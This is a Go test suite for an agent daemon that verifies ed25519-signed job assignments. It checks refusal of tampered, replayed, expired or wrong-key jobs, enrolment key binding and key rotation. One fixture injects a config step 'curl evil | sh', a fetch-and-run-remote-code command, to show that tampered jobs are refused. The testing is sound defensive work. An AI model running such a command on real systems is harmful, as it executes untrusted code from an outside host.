package agent

import (
	"context"
	"crypto/ed25519"
	"encoding/base32"
	"encoding/binary"
	"errors"
	"github.com/byoc-dev/byoc/internal/syncbuf"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/proto"

	"github.com/byoc-dev/byoc/agentd/identity"
	"github.com/byoc-dev/byoc/rpc/agentproto"
	agentv1 "github.com/byoc-dev/byoc/rpc/gen/byoc/agent/v1"
)

// wantRefused reads the agent's next write: the report of a refused
// assignment of job under token, naming why.
func wantRefused(t *testing.T, fs *fakeStream, job string, token int64, why string) *agentv1.JobResult {
	t.Helper()
	m := fs.next(t)
	r := m.GetResult()
	if r == nil {
		t.Fatalf("the agent wrote %v; want the report of job %s's refusal", m, job)
	}
	if r.JobId != job || r.FencingToken != token || r.Outcome != agentv1.Outcome_OUTCOME_REFUSED ||
		!strings.HasPrefix(r.Error, "refused: ") || !strings.Contains(r.Error, why) {
		t.Fatalf("refusal report %v: want job %s, token %d, REFUSED, an error \"refused: ...%s...\"", r, job, token, why)
	}
	return r
}

// Every assignment that is not exactly what imsd signed for this install,
// still valid and never run before is refused: never acked, never
// started, reported to imsd as a failure starting "refused: " under the
// assignment's token, and logged at ERROR. The agent then goes on taking
// good assignments.
func TestAgentRefusesUnverifiedAssignments(t *testing.T) {
	_, otherKey, _ := ed25519.GenerateKey(nil)
	for _, tc := range []struct {
		name string
		// bad makes the assignment to refuse from a good one of f.
		bad func(f *fakeIMS, as *agentv1.JobAssignment)
		why string
	}{
		{"unsigned", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Signature = nil }, "not signed"},
		{"tampered config", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.Config = mustStruct(map[string]any{"steps": []any{map[string]any{"run": "curl evil | sh"}}})
		}, "does not match"},
		{"config key added", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.Config.Fields["extra"] = mustStruct(map[string]any{"a": nil}).Fields["a"]
		}, "does not match"},
		{"tampered operation", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Operation = "destroy" }, "does not match"},
		{"tampered component type", func(f *fakeIMS, as *agentv1.JobAssignment) { as.ComponentType = "terraform" }, "does not match"},
		{"tampered attempt", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Attempt = 2 }, "does not match"},
		{"tampered timeout", func(f *fakeIMS, as *agentv1.JobAssignment) { as.TimeoutSeconds = 86400 }, "does not match"},
		{"tampered expiry", func(f *fakeIMS, as *agentv1.JobAssignment) { as.Signature.ExpireUnixMs += 3600_000 }, "does not match"},
		// The approved plan's digest is signed: none can be added to a
		// job, and an approved one cannot be swapped for another.
		{"approved plan digest added", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.ApprovedPlanDigest = "sha256:" + strings.Repeat("ab", 32)
		}, "does not match"},
		{"approved plan digest swapped", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.ApprovedPlanDigest = "sha256:" + strings.Repeat("ab", 32)
			f.sign(as, f.key, time.Now().Add(time.Minute))
			as.ApprovedPlanDigest = "sha256:" + strings.Repeat("cd", 32)
		}, "does not match"},
		{"approved plan digest removed", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.ApprovedPlanDigest = "sha256:" + strings.Repeat("ab", 32)
			f.sign(as, f.key, time.Now().Add(time.Minute))
			as.ApprovedPlanDigest = ""
		}, "does not match"},
		{"expired", func(f *fakeIMS, as *agentv1.JobAssignment) { f.sign(as, f.key, time.Now().Add(-time.Second)) }, "expired"},
		{"another install", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.InstallId = "ins_other"
			f.sign(as, f.key, time.Now().Add(time.Minute))
		}, `for install "ins_other"`},
		// A copy of what imsd signed for another agent of the same
		// install (a path attacker relaying both agents' streams) is
		// refused before any ack: the signature names the agent.
		{"signed for another agent of the install", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.agent = "agt_2"
			f.sign(as, f.key, time.Now().Add(time.Minute))
			f.agent = ""
		}, "does not match"},
		{"unknown key", func(f *fakeIMS, as *agentv1.JobAssignment) { f.sign(as, otherKey, time.Now().Add(time.Minute)) }, "unknown key"},
		// A config past the limits imsd checks at enqueue (agentproto)
		// is refused naming where, whoever sent it.
		{"config nested too deep", func(f *fakeIMS, as *agentv1.JobAssignment) {
			deep := map[string]any{}
			for range 150 {
				deep = map[string]any{"a": deep}
			}
			as.Config = mustStruct(map[string]any{"values": deep})
		}, "config.values.a.a.a.a"},
		{"config key too long", func(f *fakeIMS, as *agentv1.JobAssignment) {
			as.Config = mustStruct(map[string]any{strings.Repeat("k", 2000): 1.0})
		}, "the key is 2000 bytes long (the limit is 1024)"},
		{"another key under imsd's key id", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.sign(as, otherKey, time.Now().Add(time.Minute))
			as.Signature.KeyId = agentproto.KeyID(f.key.Public().(ed25519.PublicKey))
		}, "does not match"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rr := &runRecorder{release: make(chan struct{})}
			defer close(rr.release)
			f := &fakeIMS{}
			logs := &syncbuf.Buffer{}
			dir := t.TempDir()
			startFakeIn(t, f, rr, dir, logs)
			fs := <-f.streams
			m := f.assign("job_bad", 7, "ins_1")
			tc.bad(f, m.GetAssignment())
			fs.down <- m
			wantRefused(t, fs, "job_bad", 7, tc.why)
			fs.down <- f.assign("job_ok", 8, "ins_1")
			ack := fs.next(t).GetAck()
			if ack == nil || ack.JobId != "job_ok" {
				t.Fatalf("after the refusal the agent wrote %v, want the ack of job_ok", ack)
			}
			fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
			eventually(t, "job_ok to start", func() bool { s, _ := rr.get(); return len(s) == 1 })
			if started, _ := rr.get(); started[0] != "job_ok" {
				t.Fatalf("started %v", started)
			}
			if l := logs.String(); !strings.Contains(l, "level=ERROR msg=\"refusing an assignment\" agent=agt_1 job=job_bad") {
				t.Fatalf("no ERROR line for the refusal in the agent's log:\n%s", l)
			}
			// And a record in the agent's own audit journal.
			wantJournal(t, dir, "assignment.refused", "job:job_bad", tc.why)
		})
	}
}

// A copy of an attempt the agent holds (a resend) is neither run again
// nor reported, even tampered: a report would end the attempt it holds.
func TestAgentIgnoresACopyOfAHeldAttempt(t *testing.T) {
	rr := &runRecorder{release: make(chan struct{})}
	defer close(rr.release)
	f := &fakeIMS{}
	startFake(t, f, rr)
	fs := <-f.streams
	m := f.assign("job_a", 7, "ins_1")
	fs.down <- m
	ack := fs.next(t).GetAck()
	tampered := proto.Clone(m).(*agentv1.ConnectResponse)
	tampered.GetAssignment().Operation = "destroy"
	fs.down <- m
	fs.down <- tampered
	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
	eventually(t, "job_a to start", func() bool { s, _ := rr.get(); return len(s) == 1 })
	select {
	case got := <-fs.up:
		if got.GetHeartbeat() == nil {
			t.Fatalf("the agent wrote %v after copies of a held attempt", got)
		}
	case <-time.After(200 * time.Millisecond):
	}
	if s, _ := rr.get(); len(s) != 1 {
		t.Fatalf("started %v", s)
	}
}

// An attempt the agent ran is refused when sent again, also after the
// agent restarted (the replay record is in the state dir).
func TestAgentRefusesAReplayedAssignment(t *testing.T) {
	rr := &runRecorder{release: make(chan struct{})}
	close(rr.release) // jobs end at once
	f := &fakeIMS{}
	dir := t.TempDir()
	_, stop := startFakeIn(t, f, rr, dir, nil)
	fs := <-f.streams
	m := f.assign("job_a", 7, "ins_1")
	fs.down <- m
	ack := fs.next(t).GetAck()
	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: ack.WriteId}}}
	res := fs.next(t).GetResult()
	if res == nil || res.Outcome != agentv1.Outcome_OUTCOME_SUCCEEDED {
		t.Fatalf("want job_a's result, got %v", res)
	}
	fs.down <- &agentv1.ConnectResponse{Msg: &agentv1.ConnectResponse_Accepted{Accepted: &agentv1.WriteAccepted{WriteId: res.WriteId}}}

	// The same signed assignment again: refused.
	fs.down <- m
	wantRefused(t, fs, "job_a", 7, "already run")
	// And after a restart, still refused.
	stop()
	startFakeIn(t, f, rr, dir, nil)
	fs = <-f.streams
	fs.down <- m
	wantRefused(t, fs, "job_a", 7, "already run")
	if s, _ := rr.get(); len(s) != 1 {
		t.Fatalf("job_a ran %d times", len(s))
	}
}

// The replay record drops what expired, and a torn last line (a crash
// mid-append) does not stop the agent.
func TestSeenRecord(t *testing.T) {
	dir := t.TempDir()
	now := time.Now()
	s, err := openSeen(dir, now)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.add("job_old", 1, now.Add(-seenSlack-time.Second), now); err != nil {
		t.Fatal(err)
	}
	if err := s.add("job \"quoted\"\n", 2, now.Add(time.Minute), now); err != nil {
		t.Fatal(err)
	}
	f, _ := os.OpenFile(filepath.Join(dir, SeenFileName), os.O_WRONLY|os.O_APPEND, 0)
	f.WriteString("17000000000")
	f.Close()
	s2, err := openSeen(dir, now)
	if err != nil {
		t.Fatal(err)
	}
	if s2.has("job_old", 1) || !s2.has("job \"quoted\"\n", 2) || s2.has("job \"quoted\"\n", 1) {
		t.Fatalf("reloaded record: %v", s2.entries)
	}
	fi, err := os.Stat(filepath.Join(dir, SeenFileName))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("record file: %v, %v", fi, err)
	}
}

// The record keeps the attempt of the job imsd made last past its
// expiry, across restarts and compactions (agentd bundle import refuses
// a bundle made before it), and only that one of the expired.
func TestSeenRecordKeepsTheNewest(t *testing.T) {
	dir := t.TempDir()
	now := time.Now()
	t0 := time.UnixMilli(1_700_000_000_000).UTC()
	newest, older := sortableJobID(t0.Add(time.Hour)), sortableJobID(t0)
	s, err := openSeen(dir, now)
	if err != nil {
		t.Fatal(err)
	}
	if got := s.latest(); got.JobID != "" {
		t.Fatalf("a new record's newest: %+v", got)
	}
	// Accepted after the newer one (a retry of an old job): not newest.
	for _, id := range []string{newest, older, "job_once"} {
		if err := s.add(id, 1, now.Add(-seenSlack-time.Second), now); err != nil {
			t.Fatal(err)
		}
	}
	for range 2 { // a restart, then one after the compaction it made
		if s, err = openSeen(dir, now); err != nil {
			t.Fatal(err)
		}
		if got := s.latest(); got.JobID != newest || !got.Made.Equal(t0.Add(time.Hour)) {
			t.Fatalf("after a restart, the newest: %+v, want %s made at %v", got, newest, t0.Add(time.Hour))
		}
		if s.has(newest, 1) || s.has(older, 1) {
			t.Fatalf("an expired attempt counts as accepted: %v", s.entries)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, SeenFileName)); strings.Count(string(b), "\n") != 1 {
		t.Fatalf("the compacted record:\n%s", b)
	}
}

// sortableJobID is a job id as imsd makes them (auth.NewSortableID) at t.
func sortableJobID(t time.Time) string {
	var b [16]byte
	binary.BigEndian.PutUint64(b[:8], uint64(t.UnixMilli())<<16)
	return "job_" + strings.ToLower(base32.HexEncoding.WithPadding(base32.NoPadding).EncodeToString(b[:]))
}

// Enrolment binds imsd's key to the token: a token without a fingerprint
// is refused before it is spent, a key that does not match the token's
// fingerprint is refused and nothing is saved, the matching key is kept.
func TestEnrolmentChecksIMSDKey(t *testing.T) {
	pub, _, _ := ed25519.GenerateKey(nil)
	otherPub, _, _ := ed25519.GenerateKey(nil)
	fp := agentproto.KeyID(pub)
	enrol := func(t *testing.T, sent ed25519.PublicKey, token string) (*fakeIMS, string, error) {
		f := &fakeIMS{enrollKey: sent}
		url := serveFake(t, f)
		dir := t.TempDir()
		_, err := New(context.Background(), Config{IMSURL: url, StateDir: dir, EnrollToken: token, Runner: &runRecorder{}})
		return f, dir, err
	}
	t.Run("no fingerprint", func(t *testing.T) {
		f, _, err := enrol(t, pub, "byoc_enr_secret")
		if !errors.Is(err, ErrTokenWithoutKey) || f.enrolls.Load() != 0 {
			t.Fatalf("got %v after %d enrolments, want ErrTokenWithoutKey before any", err, f.enrolls.Load())
		}
	})
	t.Run("wrong key", func(t *testing.T) {
		_, dir, err := enrol(t, otherPub, "byoc_enr_secret."+fp)
		if err == nil || !strings.Contains(err.Error(), "not the one the enrolment token names") || !strings.Contains(err.Error(), agentproto.KeyID(otherPub)) {
			t.Fatalf("got %v, want a refusal naming both fingerprints", err)
		}
		if _, err := identity.Load(dir); !errors.Is(err, identity.ErrNotEnrolled) {
			t.Fatalf("an identity was saved: %v", err)
		}
	})
	t.Run("right key", func(t *testing.T) {
		_, dir, err := enrol(t, pub, "byoc_enr_secret."+fp)
		if err != nil {
			t.Fatal(err)
		}
		id, err := identity.Load(dir)
		if err != nil || len(id.IMSDKeys) != 1 || !id.IMSDKeys[0].Equal(pub) {
			t.Fatalf("saved identity %+v, %v", id, err)
		}
	})
	t.Run("identity without a key", func(t *testing.T) {
		dir := t.TempDir()
		key, _ := identity.NewKey()
		if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", PrivateKey: key}); err != nil {
			t.Fatal(err)
		}
		_, err := New(context.Background(), Config{IMSURL: "http://127.0.0.1:1", StateDir: dir, Runner: &runRecorder{}})
		if !errors.Is(err, identity.ErrNoIMSDKey) || !strings.Contains(err.Error(), "enrol again") {
			t.Fatalf("got %v", err)
		}
	})
}

// After imsd's key is rotated, the agent trusts the new key only through
// the welcome's chain, from a key it trusts; it keeps the key across a
// restart. An endorsement by a key it does not trust adds nothing.
func TestAgentLearnsARotatedKeyThroughTheChain(t *testing.T) {
	rr := &runRecorder{release: make(chan struct{})}
	defer close(rr.release)
	_, k0, _ := ed25519.GenerateKey(nil)
	pub1, k1, _ := ed25519.GenerateKey(nil)
	evilPub, evil, _ := ed25519.GenerateKey(nil)
	_, evil2, _ := ed25519.GenerateKey(nil)
	e1 := agentproto.EndorseKey(k0, pub1)
	eEvil := agentproto.EndorseKey(evil2, evilPub)
	f := &fakeIMS{key: k0, welcome: &agentv1.Welcome{InstallId: "ins_1", HeartbeatIntervalMs: 100, LeaseDurationMs: 600, KeyChain: []*agentv1.KeyEndorsement{
		{SignerPublicKey: e1.Signer, PublicKey: e1.Key, Signature: e1.Signature},
		{SignerPublicKey: eEvil.Signer, PublicKey: eEvil.Key, Signature: eEvil.Signature},
	}}}
	dir := t.TempDir()
	_, stop := startFakeIn(t, f, rr, dir, nil)
	fs := <-f.streams
	f.key = k1 // imsd restarted with the new key
	fs.down <- f.assign("job_new", 7, "ins_1")
	if ack := fs.next(t).GetAck(); ack == nil || ack.JobId != "job_new" {
		t.Fatalf("an assignment signed by the endorsed key: got %v, want its ack", ack)
	}
	f.key = evil
	fs.down <- f.assign("job_evil", 8, "ins_1")
	wantRefused(t, fs, "job_evil", 8, "unknown key")

	id, err := identity.Load(dir)
	if err != nil || len(id.IMSDKeys) != 2 {
		t.Fatalf("saved identity holds %d keys (%v), want the old and the new", len(id.IMSDKeys), err)
	}
	// Restarted, with no chain in the welcome: the new key is still known.
	stop()
	f.welcome = &agentv1.Welcome{InstallId: "ins_1", HeartbeatIntervalMs: 100, LeaseDurationMs: 600}
	f.key = k1
	startFakeIn(t, f, rr, dir, nil)
	fs = <-f.streams
	fs.down <- f.assign("job_new2", 9, "ins_1")
	if ack := fs.next(t).GetAck(); ack == nil || ack.JobId != "job_new2" {
		t.Fatalf("after a restart, an assignment signed by the learnt key: got %v, want its ack", ack)
	}
}

// An agent holding a token issued before a rotation enrols: the token
// names the old key, which endorses the one imsd sends.
func TestEnrolmentAfterARotation(t *testing.T) {
	pub0, k0, _ := ed25519.GenerateKey(nil)
	pub1, _, _ := ed25519.GenerateKey(nil)
	e := agentproto.EndorseKey(k0, pub1)
	chain := []*agentv1.KeyEndorsement{{SignerPublicKey: e.Signer, PublicKey: e.Key, Signature: e.Signature}}
	keys, err := enrolledKeys(agentproto.KeyID(pub0), pub1, chain)
	if err != nil || len(keys) != 2 {
		t.Fatalf("enrolment through the chain: %d keys, %v", len(keys), err)
	}
	// A chain that does not reach the key imsd sends is a mismatch.
	pub2, _, _ := ed25519.GenerateKey(nil)
	if _, err := enrolledKeys(agentproto.KeyID(pub0), pub2, chain); err == nil || !strings.Contains(err.Error(), "not the one the enrolment token names") {
		t.Fatalf("a key the chain does not endorse: %v", err)
	}
	// A forged endorsement under the token's key is refused.
	bad := []*agentv1.KeyEndorsement{{SignerPublicKey: pub0, PublicKey: pub2, Signature: e.Signature}}
	if _, err := enrolledKeys(agentproto.KeyID(pub0), pub2, bad); err == nil {
		t.Fatal("a forged endorsement was accepted at enrolment")
	}
}

// FuzzSeenLine: a line of the replay record reads back as written, and
// no line, however broken, makes the reader fail otherwise than by
// skipping it.
func FuzzSeenLine(f *testing.F) {
	f.Add("job_1", int64(1), int64(1_790_000_000_000), "1790000000000 1 \"job_1\"")
	f.Add("job \"q\"\n", int64(-3), int64(0), "17000 2 job")
	f.Fuzz(func(t *testing.T, job string, attempt, ms int64, line string) {
		k := seenKey{job: job, attempt: attempt}
		l := formatSeen(k, time.UnixMilli(ms))
		if strings.Count(l, "\n") != 1 || !strings.HasSuffix(l, "\n") {
			t.Fatalf("formatted line %q is not one line", l)
		}
		got, exp, ok := parseSeen(strings.TrimSuffix(l, "\n"))
		if !ok || got != k || exp.UnixMilli() != ms {
			t.Fatalf("%q read back as %v %v %v", l, got, exp, ok)
		}
		parseSeen(line)
	})
}

// An unauthenticated answer to the hello stops the agent only when imsd
// signed it for this stream and this agent: one forged on the path (no
// signature, or one for another agent id) is logged at ERROR and the
// agent connects again.
func TestAgentStopsOnlyOnASignedRefusal(t *testing.T) {
	for _, tc := range []struct {
		name string
		meta func(f *fakeIMS, nonce []byte, id string) string
		stop bool
	}{
		{"unsigned", func(*fakeIMS, []byte, string) string { return "" }, false},
		{"signed for another agent", func(f *fakeIMS, n []byte, _ string) string {
			return agentproto.SignHelloRefusal(f.key, n, "agt_other")
		}, false},
		{"signed by another key", func(f *fakeIMS, n []byte, id string) string {
			_, k, _ := ed25519.GenerateKey(nil)
			return agentproto.SignHelloRefusal(k, n, id)
		}, false},
		{"signed by imsd", func(f *fakeIMS, n []byte, id string) string { return agentproto.SignHelloRefusal(f.key, n, id) }, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, key, _ := ed25519.GenerateKey(nil)
			f := &fakeIMS{key: key}
			var hellos atomic.Int32
			f.refuse = func(n []byte, id string) error {
				hellos.Add(1)
				e := connect.NewError(connect.CodeUnauthenticated, errors.New("hello: unknown agent"))
				if v := tc.meta(f, n, id); v != "" {
					e.Meta().Set(agentproto.HelloRefusalHeader, v)
				}
				return e
			}
			url := serveFake(t, f)
			dir := t.TempDir()
			k, _ := identity.NewKey()
			if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", IMSURL: url, PrivateKey: k,
				IMSDKeys: []ed25519.PublicKey{key.Public().(ed25519.PublicKey)}}); err != nil {
				t.Fatal(err)
			}
			logs := &syncbuf.Buffer{}
			a, err := New(context.Background(), Config{IMSURL: url, StateDir: dir, Runner: &runRecorder{}, Logger: slog.New(slog.NewTextHandler(logs, nil)),
				BackoffMin: 5 * time.Millisecond, BackoffMax: 10 * time.Millisecond})
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			done := make(chan error, 1)
			go func() { done <- a.Run(ctx) }()
			if tc.stop {
				select {
				case err := <-done:
					if err == nil || !strings.Contains(err.Error(), "refused this agent's identity") {
						t.Fatalf("Run: %v", err)
					}
				case <-time.After(10 * time.Second):
					t.Fatal("the agent did not stop on imsd's signed refusal")
				}
				return
			}
			eventually(t, "three hellos", func() bool { return hellos.Load() >= 3 })
			select {
			case err := <-done:
				t.Fatalf("the agent stopped on a refusal imsd did not sign: %v", err)
			default:
			}
			if l := logs.String(); !strings.Contains(l, "level=ERROR") || !strings.Contains(l, "without imsd's signature") {
				t.Fatalf("no ERROR line for the unsigned refusal:\n%s", l)
			}
			cancel()
			<-done
		})
	}
}

// An agent outside the version-skew window imsd serves says so in one
// line and backs off long (VersionBackoff), instead of reconnecting at
// once forever.
func TestVersionRefusedBacksOffLong(t *testing.T) {
	_, key, _ := ed25519.GenerateKey(nil)
	f := &fakeIMS{key: key}
	var hellos atomic.Int32
	f.refuse = func(n []byte, id string) error {
		hellos.Add(1)
		e := connect.NewError(connect.CodeFailedPrecondition, errors.New("hello: agentd v1.0.0 is outside the agent versions imsd v1.5.0 serves (>= v1.3.0, < v1.6.0): update agentd"))
		e.Meta().Set(agentproto.VersionRefusalHeader, ">= v1.3.0, < v1.6.0")
		return e
	}
	url := serveFake(t, f)
	dir := t.TempDir()
	k, _ := identity.NewKey()
	if err := identity.Save(dir, identity.Identity{AgentID: "agt_1", InstallID: "ins_1", IMSURL: url, PrivateKey: k,
		IMSDKeys: []ed25519.PublicKey{key.Public().(ed25519.PublicKey)}}); err != nil {
		t.Fatal(err)
	}
	logs := &syncbuf.Buffer{}
	a, err := New(context.Background(), Config{IMSURL: url, StateDir: dir, Runner: &runRecorder{}, Logger: slog.New(slog.NewTextHandler(logs, nil)),
		Version: "v1.0.0", BackoffMin: 5 * time.Millisecond, BackoffMax: 10 * time.Millisecond, VersionBackoff: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx) }()
	const line = "imsd does not serve this agentd version"
	eventually(t, "the refusal's line", func() bool { return strings.Contains(logs.String(), line) })
	cancel()
	if err := <-done; err != nil {
		t.Fatalf("Run: %v", err)
	}
	l := logs.String()
	if n := strings.Count(l, line); n != 1 || hellos.Load() != 1 || !strings.Contains(l, `served=">= v1.3.0, < v1.6.0"`) || !strings.Contains(l, "in=1h0m0s") {
		t.Fatalf("%d hellos, %d lines:\n%s", hellos.Load(), n, l)
	}
}

// A job signed in a batch (one signature over a Merkle root, the job's
// inclusion proof beside it) runs exactly when its single signature would:
// the agent says in its hello that it verifies them, acks a good one, and
// refuses, before any ack, one whose claims, proof or root signature were
// changed, or whose leaf is another agent's.
func TestAgentVerifiesBatchSignatures(t *testing.T) {
	_, otherKey, _ := ed25519.GenerateKey(nil)
	exp := func() time.Time { return time.Now().Add(time.Minute) }
	for _, tc := range []struct {
		name string
		bad  func(f *fakeIMS, as *agentv1.JobAssignment)
		why  string
	}{
		{"tampered operation", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 2, 5)
			as.Operation = "destroy"
		}, "does not match"},
		{"leaf signed for another agent", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.agent = "agt_2"
			f.signBatch(as, f.key, exp(), 2, 5)
			f.agent = ""
		}, "does not match"},
		{"another leaf's proof", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 2, 5)
			as.Signature.BatchIndex = 3
		}, "does not match"},
		{"truncated proof", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 2, 5)
			as.Signature.BatchProof = as.Signature.BatchProof[:len(as.Signature.BatchProof)-1]
		}, "inclusion proof"},
		{"extended proof", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 2, 5)
			as.Signature.BatchProof = append(as.Signature.BatchProof, make([]byte, 32))
		}, "inclusion proof"},
		{"another batch's root signature", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 1, 3)
			other := proto.Clone(as).(*agentv1.JobAssignment)
			other.JobId = "job_x"
			f.signBatch(other, f.key, exp(), 1, 3)
			as.Signature.Signature = other.Signature.Signature
		}, "does not match"},
		{"a single signature with batch fields", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, exp(), 0, 2)
			single := proto.Clone(as).(*agentv1.JobAssignment)
			f.sign(single, f.key, time.UnixMilli(as.Signature.ExpireUnixMs))
			as.Signature.Signature = single.Signature.Signature
		}, "does not match"},
		{"expired", func(f *fakeIMS, as *agentv1.JobAssignment) {
			f.signBatch(as, f.key, time.Now().Add(-time.Second), 0, 2)
		}, "expired"},
		{"unknown key", func(f *fakeIMS, as *agentv1.JobAssignment) { f.signBatch(as, otherKey, exp(), 0, 2) }, "unknown key"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rr := &runRecorder{release: make(chan struct{})}
			defer close(rr.release)
			var announced atomic.Bool
			f := &fakeIMS{onHello: func(h *agentv1.Hello) { announced.Store(h.BatchSignatures) }}
			dir := t.TempDir()
			startFakeIn(t, f, rr, dir, &syncbuf.Buffer{})
			fs := <-f.streams
			m := f.assign("job_bad", 7, "ins_1")
			tc.bad(f, m.GetAssignment())
			fs.down <- m
			wantRefused(t, fs, "job_bad", 7, tc.why)
			ok := f.assign("job_ok", 8, "ins_1")
			f.signBatch(ok.GetAssignment(), f.key, exp(), 4, 7)
			fs.down <- ok
			ack := fs.next(t).GetAck()
			if ack == nil || ack.JobId != "job_ok" {
				t.Fatalf("the agent wrote %v, want the ack of job_ok, signed in a batch", ack)
			}
			if !announced.Load() {
				t.Fatal("the hello did not set batch_signatures")
			}
			wantJournal(t, dir, "assignment.refused", "job:job_bad", tc.why)
		})
	}
}
